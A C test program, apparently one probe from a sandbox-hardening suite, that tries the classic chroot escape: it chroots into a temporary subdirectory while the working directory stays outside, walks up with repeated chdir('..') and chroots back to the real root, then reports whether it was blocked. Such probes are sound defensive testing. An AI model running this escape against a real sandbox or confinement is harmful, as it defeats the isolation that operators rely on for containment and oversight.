/* chroot_escape — the classic: chroot into a subdirectory while keeping the cwd outside, then
 * walk up past the root. chroot itself is the privileged step; its success is the escape. */
#include "attack.h"
#include <sys/stat.h>

int main(void) {
        char dir[512];
        snprintf(dir, sizeof(dir), "%s/sbx-chroot-%d", getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp", (int) getpid());
        if (mkdir(dir, 0700) < 0)
                ERROR("mkdir %s: %s", dir, ename(errno));
        int r = chroot(dir);
        int e = errno;
        if (r == 0) {
                for (int i = 0; i < 64; i++)
                        (void) !chdir("..");
                r = chroot(".");
        }
        rmdir(dir);
        if (r < 0) {
                errno = e;
                BLOCKED_ERRNO("chroot");
        }
        ESCAPED("chroot succeeded, and back out through ..");
}
